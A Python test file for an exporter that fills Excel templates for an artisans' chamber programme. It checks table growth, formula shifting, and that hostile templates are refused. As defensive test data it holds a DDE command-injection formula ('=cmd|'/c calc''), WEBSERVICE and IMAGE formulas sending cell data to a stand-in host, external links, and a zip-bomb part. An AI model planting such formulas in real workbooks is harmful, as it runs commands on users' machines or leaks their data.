"""Templates of the chamber: filled, everything else kept, what is unclear said, what is hostile refused."""

from __future__ import annotations

import io
import subprocess
import zipfile
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook
from openpyxl.comments import Comment
from openpyxl.worksheet.datavalidation import DataValidation

from exports.catalogue import Catalogue, write_names
from exports.programme import Commune, Programme, Woman
from exports.references import Area, Growth, Moves
from exports.template import TemplateError, look_at_template
from tests.exports.field import Field, to_programme
from tests.exports.ooxml import find_faults
from tests.exports.templates import catalogue_of, fill, list_template, name, opened, patch, report_template, save


@pytest.fixture(scope="module")
def catalogue(field: Field) -> Catalogue:
    return catalogue_of(field.programme)


@pytest.fixture(scope="module")
def report(field: Field) -> bytes:
    return fill(report_template(), field.programme)


def small(*communes: str, women: int = 3, title: str = "Essai") -> Programme:
    """A programme of no form, whose women live in the first communes."""
    places = [Commune(f"31{number:02}", one) for number, one in enumerate(communes)]
    some = [Woman(f"w{n}", 1, {"nom_fr": f"N{n}", "commune": places[n % len(places)].code}) for n in range(women)]
    return to_programme([], women=some, communes=places, title=title)


def one_table(target: str = "S!$A$3", **cells: object) -> Workbook:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "S"
    for at, value in cells.items():
        sheet[at] = value
    name(book, "HIRFA_02_Par_commune", target)
    return book


def faults_of(data: bytes) -> list[str]:
    """What is wrong with the parts; a template has formulas and shared texts, which our own workbook never has."""
    return [one for one in find_faults(data) if not one.endswith((": a formula", "the type s", "the type str"))]


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {one: archive.read(one) for one in archive.namelist()}


# filled


def test_a_report_is_filled_and_what_refers_to_its_table_follows(report: bytes, field: Field) -> None:
    sheet = opened(report)["Rapport"]
    rows = len(field.programme.communes)
    last = 7 + rows
    assert [sheet[f"{letter}7"].value for letter in "ABCDE"] == ["Code ONS", "Commune", "Inscrites", "Financées", "Part"]
    assert [sheet[f"B{row}"].value for row in (8, last)] == ["Bir El Djir", "Aïn El Bia"]
    assert sum(sheet[f"C{row}"].value for row in range(8, last + 1)) == 60  # no total of ours among hers
    assert sheet["B3"].value == 60
    assert isinstance(sheet["B4"].value, datetime)
    assert sheet["B4"].number_format == "dd/mm/yyyy hh:mm"
    assert sheet[f"E{last}"].value == f"=IF(C{last}=0,0,D{last}/C{last})+0*SUM($C$8:$C${last})"
    assert sheet[f"C{last}"].number_format == "# ##0"
    total = last + 2
    assert [sheet[f"{letter}{total}"].value for letter in "ACDE"] == [
        "Total", f"=SUM(C8:C{last})", f"=SUM(D8:D{last})", f"=D{total}/C{total}",
    ]  # fmt: skip
    assert str(next(iter(sheet.merged_cells.ranges))) == f"A{total + 2}:C{total + 2}"
    assert sheet.print_area == f"'Rapport'!$A$1:$F${total + 2}"
    assert [str(one.sqref) for one in sheet.conditional_formatting] == [f"C8:C{last}"]
    assert sheet._charts[0].series[0].val.numRef.f == f"'Rapport'!$C$8:$C${last}"
    assert sheet._charts[0].anchor._from.row == 14 + rows - 1
    assert sheet._images[0].anchor._from.row == 0
    notes = opened(report)["Notes d’elle"]
    assert [notes[f"A{row}"].value for row in (1, 2, 3)] == [f"=Rapport!C{total}", f"=COUNTA(Rapport!B8:B{last})", "Un texte"]
    assert faults_of(report) == []
    assert b'fullCalcOnLoad="1"' in parts(report)["xl/workbook.xml"]


def test_what_is_not_filled_stays_byte_for_byte(report: bytes) -> None:
    before, after = parts(report_template()), parts(report)
    kept = {one for one in before if before[one] == after.get(one)}
    assert {"xl/media/image1.png", "xl/theme/theme1.xml", "docProps/app.xml"} <= kept
    assert before.keys() <= after.keys()


def test_an_excel_table_grows_and_its_neighbours_stay(field: Field, catalogue: Catalogue) -> None:
    filled = opened(fill(list_template(catalogue), field.programme))
    sheet = filled["Liste"]
    assert sheet.tables["HIRFA_07_Liste_nominative"].ref == "B4:F64"
    assert [sheet[f"{letter}5"].value for letter in "BCDEF"] == ["BENALI 0", "Kheira", "présumée 1961", "=B5&C5", "0600000000"]
    assert sheet["E64"].value == "=B64&C64"
    assert (sheet["H4"].value, sheet["H9"].value) == ("à côté", "reste ici")
    assert sheet["F5"].number_format == "@"
    form = filled["Envois"]
    assert [form.cell(3, n).value for n in (1, 2, 3)] == ["SubmissionDate", "start", "end"]
    assert form["A3"].font.b and form["B3"].font.b
    assert isinstance(form["A4"].value, datetime)
    assert form["A4"].number_format == "dd/mm/yyyy hh:mm"
    assert faults_of(fill(list_template(catalogue), field.programme)) == []


@pytest.mark.parametrize("women", [0, 1, 2, 7])
@pytest.mark.parametrize("reserved", [1, 4])
def test_rows_that_were_there_are_used_before_new_ones(women: int, reserved: int) -> None:
    book = one_table(f"S!$A$3:$B${3 + reserved}", A3="Commune", B3="Inscrites", A20=f"=SUM(B4:B{3 + reserved})", B4="exemple")
    programme = to_programme([], communes=[Commune(f"31{n:02}", f"C{n}") for n in range(women)])
    sheet = opened(fill(save(book), programme))["S"]
    added = max(0, women - reserved)
    assert [sheet[f"A{row}"].value for row in range(4, 4 + women)] == [f"C{n}" for n in range(women)]
    assert all(sheet[f"A{row}"].value is None for row in range(4 + women, 20 + added))
    assert sheet[f"A{20 + added}"].value == f"=SUM(B4:B{3 + max(reserved, women)})"
    assert sheet["B4"].value in (None, 0)  # the example is gone


def test_two_tables_below_one_another_and_two_side_by_side() -> None:
    book = one_table("S!$A$3", A3="Commune", B3="Inscrites", A6="Métier", B6="Inscrites", A9="fin", C9="=B6+B7+SUM(B4:B4)")
    name(book, "HIRFA_04_Par_association", "S!$A$6")
    book["S"]["A6"] = "Association"
    sheet = opened(fill(save(book), small("a", "b", "c")))["S"]
    assert [sheet[f"A{row}"].value for row in range(3, 12)] == ["Commune", "a", "b", "c", None, "Association", "Sans association", None, "fin"]
    assert sheet["C11"].value == "=B8+B9+SUM(B4:B6)"
    side = one_table("S!$A$3", A3="Commune", B3="Inscrites", E3="Association", F3="Inscrites", G2="note")
    name(side, "HIRFA_04_Par_association", "S!$E$3")
    sheet = opened(fill(save(side), small("a", "b", "c")))["S"]
    assert [[cell.value for cell in row] for row in sheet["A3:F6"]] == [
        ["Commune", "Inscrites", None, None, "Association", "Inscrites"], ["a", 1, None, None, "Sans association", 3],
        ["b", 1, None, None, None, None], ["c", 1, None, None, None, None],
    ]  # fmt: skip
    side["S"]["A9"] = "total"
    assert "side_by_side" in codes(save(side), small("a"))


def test_columns_are_named_by_braces_by_either_language_and_by_code() -> None:
    programme = small("Oran", women=2)
    for heading, below in (("Le nom", "{nom_fr}"), ("اللقب (باللاتينية)", None), ("NOM", None), ("nom_fr", None)):
        book = Workbook()
        sheet: Any = book.active
        sheet.title = "S"
        sheet["B2"], sheet["B3"] = heading, below
        name(book, "HIRFA_07_Liste_nominative", "S!$B$2")
        filled = opened(fill(save(book), programme, language="ar" if heading == "NOM" else "fr"))["S"]
        assert [filled[f"B{row}"].value for row in (2, 3, 4)] == [heading, "N0", "N1"]


def test_texts_stay_texts_and_nothing_is_cut_silently() -> None:
    long = "x" * 40_000
    women = [Woman("w0", 1, {"nom_fr": "=cmd|'/c calc'!A1", "prenom_fr": long}), Woman("w1", 1, {"nom_fr": "+1\x07&<"})]
    book = Workbook()
    book.active.title = "S"  # type: ignore[union-attr]
    name(book, "HIRFA_07_Liste_nominative", "S!$A$1")
    data = fill(save(book), to_programme([], women=women))
    sheet, losses = opened(data)["S"], opened(data)["HIRFA – à lire"]
    head = [cell.value for cell in sheet[1]]
    cell = sheet.cell(2, head.index("Nom") + 1)
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=cmd|'/c calc'!A1", "s", True)
    assert sheet.cell(3, head.index("Nom") + 1).value == "+1␇&<"
    said = str([[cell.value for cell in row] for row in losses])
    assert "40000" in said and "Prénom" in said
    assert faults_of(data) == []


def test_rows_that_a_sheet_cannot_hold_are_said() -> None:
    data = fill(save(one_table("S!$A$3", A3="Commune")), small(*"abcdefgh"), limits=6)
    assert [opened(data)["S"][f"A{row}"].value for row in (4, 5, 6, 7)] == ["a", "b", "c", None]
    assert "5 lignes ne tiennent pas" in str([[c.value for c in row] for row in opened(data)["HIRFA – à lire"]])


def test_a_table_that_the_edition_lacks_is_said_and_its_place_stays_empty() -> None:
    book = one_table("S!$A$3", A3="Commune")
    name(book, "HIRFA_07_Liste_nominative", "S!$F$3")
    book["S"]["F3"], book["S"]["F4"] = "Nom", "exemple"
    data = fill(save(book), small("a"), personal=False)
    assert opened(data)["S"]["F4"].value is None
    assert "HIRFA_07_Liste_nominative" in str([[c.value for c in row] for row in opened(data)["HIRFA – à lire"]])


def test_a_filled_template_keeps_validations_comments_shapes_and_controls() -> None:
    book = one_table("S!$A$3", A3="Commune", A10="fin")
    sheet = book["S"]
    choice = DataValidation("list", formula1='"Oui,Non"', sqref="B4")
    sheet.data_validations.append(choice)
    sheet["A10"].comment = Comment("À relire", "elle")
    sheet["A10"].hyperlink = "https://cam-oran.example/"
    shape = (
        b'<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        b"<xdr:twoCellAnchor><xdr:from><xdr:col>4</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>9</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>"
        b"<xdr:to><xdr:col>6</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>11</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to>"
        b'<xdr:sp macro="" textlink=""><xdr:nvSpPr><xdr:cNvPr id="2" name="Cachet"/><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr/></xdr:sp><xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>'
    )
    data = patch(save(book), {
        "xl/drawings/drawing9.xml": shape,
        "[Content_Types].xml": lambda old: old.replace(b"</Types>", b'<Override PartName="/xl/drawings/drawing9.xml" ContentType="application/vnd.openxmlformats-officedocument.drawing+xml"/></Types>'),
        "xl/worksheets/_rels/sheet1.xml.rels": lambda old: old.replace(b"</Relationships>", b'<Relationship Id="rIdShape" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/drawing" Target="/xl/drawings/drawing9.xml"/></Relationships>'),
        "xl/worksheets/sheet1.xml": lambda old: old.replace(b"<legacyDrawing", b'<drawing xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rIdShape"/><legacyDrawing'),
    })  # fmt: skip
    programme = small(*"abcde")
    assert {("shapes", "1"), ("comments", "1"), ("validations", "1")} <= {
        (one.code, one.what) for one in look_at_template(data, catalogue_of(programme)).notes if one.level == "kept"
    }
    made = fill(data, programme)
    assert b"<xdr:row>13</xdr:row>" in parts(made)["xl/drawings/drawing9.xml"]
    filled = opened(made)["S"]
    assert (filled["A14"].comment.text, filled["A14"].hyperlink.target) == ("À relire", "https://cam-oran.example/")
    assert [str(one.sqref) for one in filled.data_validations.dataValidation] == ["B4"]  # beside the table
    assert faults_of(made) == []


# said


def codes(data: bytes, programme: Programme | None = None) -> list[str]:
    found = look_at_template(data, catalogue_of(programme or small("a"))).notes
    return [one.code for one in found if one.level != "kept"]


def test_unknown_names_and_columns_are_said_with_what_is_meant() -> None:
    book = one_table("S!$A$3", A3="Comune", B3="Inscrites")
    name(book, "HIRFA_I6", "S!$A$1")
    name(book, "HIRFA_07_Liste_nominatif", "S!$A$9")
    name(book, "HIRFA_I02", "#REF!")
    notes = look_at_template(save(book), catalogue_of(small("a"))).notes
    near = {one.what: one.near for one in notes if one.code.startswith("unknown")}
    assert "HIRFA_I06" in near["HIRFA_I6"]
    assert near["HIRFA_07_Liste_nominatif"][0] == "HIRFA_07_Liste_nominative"
    assert "commune" in near["Comune"]
    assert [one.what for one in notes if one.code == "bad_target"] == ["HIRFA_I02"]


def test_a_formula_that_cannot_be_followed_is_said() -> None:
    book = one_table("S!$A$3", A3="Commune", C1='=INDIRECT("A"&4)', C2="=SUM(S:T!A1)")
    assert {"blind", "three_d"} <= set(codes(save(book)))


def test_places_in_one_anothers_way_are_refused() -> None:
    book = one_table("S!$A$3", A3="Commune", B3="Inscrites")
    name(book, "HIRFA_I01", "S!$B$4")
    assert "overlap" in codes(save(book))
    merged = one_table("S!$A$3", A3="Commune", B3="Inscrites")
    merged["S"].merge_cells("A4:B4")
    assert "merged" in codes(save(merged))
    assert codes(save(Workbook())) == ["no_place"]


def test_the_list_of_names_has_every_table_column_and_figure(field: Field, catalogue: Catalogue) -> None:
    book = opened(write_names(catalogue, "fr"))
    names = [row[0] for row in book["Noms"].iter_rows(min_row=2, values_only=True)]
    assert {"HIRFA_I06", "HIRFA_I06_cumul", "HIRFA_07_Liste_nominative", "HIRFA_cam_a_inscription"} <= set(names)
    assert len({one.casefold() for one in names}) == len(names)
    columns = list(book["Colonnes"].iter_rows(min_row=2, values_only=True))
    assert ("HIRFA_07_Liste_nominative", "nom_fr", "Nom", "اللقب (باللاتينية)") in {row[:4] for row in columns}
    assert opened(write_names(catalogue, "ar")).worksheets[0].sheet_view.rightToLeft


# refused


def _relate(target: str, kind: str) -> Any:
    one = f'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return lambda old: old.replace(b"</Relationships>", one.encode())


_HOSTILE = {
    "macros": {"xl/vbaProject.bin": b"\xd0\xcf"},
    "macros of old": {"xl/macrosheets/sheet1.xml": b"<xml/>"},
    "embedded": {"xl/embeddings/oleObject1.bin": b"x"},
    "outside: connection": {"xl/connections.xml": b"<connections/>"},
    "outside: picture": {"xl/_rels/workbook.xml.rels": _relate("http://elsewhere.example/p.png", "image")},
    "outside: file": {"xl/_rels/workbook.xml.rels": _relate("file:///c:/x", "hyperlink")},
    "damaged: cut": {"xl/styles.xml": b"<styleSheet"},
    "strict": {"xl/workbook.xml": lambda old: old.replace(b"http://schemas.openxmlformats.org/spreadsheetml/2006/main", b"http://purl.oclc.org/ooxml/spreadsheetml/main")},
    "unreadable: entities": {"xl/styles.xml": lambda old: b'<!DOCTYPE x [<!ENTITY a "b">]>' + old.split(b"?>", 1)[-1]},
    "unreadable: other workbooks": {"xl/externalLinks/externalLink1.xml": b"<x/>"},
}  # fmt: skip


@pytest.mark.parametrize("hostile", list(_HOSTILE))
def test_a_hostile_part_is_refused(hostile: str) -> None:
    data = patch(save(one_table("S!$A$3", A3="Commune")), _HOSTILE[hostile])  # type: ignore[arg-type]
    found = look_at_template(data, catalogue_of(small("a")))
    assert hostile.split(":")[0].split(" ")[0] in [one.code for one in found.refused]
    with pytest.raises(TemplateError):
        fill(data, small("a"))


@pytest.mark.parametrize(
    ("formula", "code"),
    [
        ("=cmd|'/c calc'!A0", "outside"),
        ('=WEBSERVICE("http://e.example/"&A4)', "active"),
        ('=IF(1,_xlfn.IMAGE("http://e.example/"&A4),0)', "active"),
        ("='[other.xlsx]S'!A1", "outside"),
        ('=RTD("x",,"y")', "active"),
    ],
)
def test_a_formula_that_fetches_or_runs_is_refused(formula: str, code: str) -> None:
    assert code in [one.code for one in look_at_template(save(one_table("S!$A$3", A3="Commune", D1=formula)), catalogue_of(small("a"))).refused]


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04rest", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, b"a;b"])
def test_what_is_no_workbook_is_refused(data: bytes) -> None:
    assert [one.code for one in look_at_template(data, catalogue_of(small("a"))).refused] == ["unreadable"]


def test_a_bomb_is_refused_before_it_is_unpacked() -> None:
    data = patch(save(one_table("S!$A$3", A3="Commune")), {"xl/big.xml": b"<a>" + b"0" * 70_000_000 + b"</a>"})
    assert len(data) < 200_000
    assert [one.code for one in look_at_template(data, catalogue_of(small("a"))).refused] == ["unreadable"]


# references


@pytest.mark.parametrize(
    ("pushes", "before", "after"),
    [
        (True, "SUM(B5:B5)", "SUM(B5:B14)"),
        (True, "B5+B6", "B5+B15"),
        (True, "SUM($B$2:$B$9)*'S'!B7", "SUM($B$2:$B$18)*'S'!B16"),
        (True, "Other!B9+SUM(B:B)", "Other!B9+SUM(B:B)"),
        (True, '"B9"&HIRFA_x&T[B9]', '"B9"&HIRFA_x&T[B9]'),
        (True, "SUM(5:5)+SUM(9:9)", "SUM(5:14)+SUM(18:18)"),
        (False, "SUM(B5:B5)+B9", "SUM(B5:B14)+B9"),
        (False, "SUM(F5:F5)+SUM(B5:B100)", "SUM(F5:F5)+SUM(B5:B100)"),
        (False, "SUM(B1:B7)", "SUM(B1:B14)"),
        (True, "SUM(B1048576)", "SUM(B1048576)"),
    ],
)
def test_formula_moves_as_in_excel(pushes: bool, before: str, after: str) -> None:
    moves = Moves([Growth("S", Area(1, 5, 3, 5), 9, pushes)])
    assert moves.formula(before, "s") == after


def test_copier_keeps_what_is_fixed_and_moves_what_is_relative() -> None:
    moves = Moves([Growth("S", Area(1, 5, 3, 5), 9, pushes=True)])
    write = moves.copier("B5/SUM($B$5:$B$5)+SUM(B$5:B5)+B$8+B8+X!A1", "S", Area(1, 5, 3, 5))
    assert write(0) == "B5/SUM($B$5:$B$14)+SUM(B$5:B5)+B$17+B17+X!A1"
    assert write(3) == "B8/SUM($B$5:$B$14)+SUM(B$5:B8)+B$17+B17+X!A4"


def test_a_filled_template_opens_in_libreoffice_which_counts_its_formulas(report: bytes, field: Field, tmp_path: Path) -> None:
    book = tmp_path / "report.xlsx"
    book.write_bytes(report)
    subprocess.run(
        ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile", "--convert-to", "pdf", "--outdir", str(tmp_path), str(book)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    text = subprocess.run(["pdftotext", "-layout", str(tmp_path / "report.pdf"), "-"], check=True, capture_output=True, text=True).stdout
    assert "CHAMBRE DE L’ARTISANAT" in text and "Arrêté le 23/11/2026" in text
    total = next(line for line in text.splitlines() if line.strip().startswith("Total"))
    assert total.split()[1] == "60"
    assert "Le directeur" in text
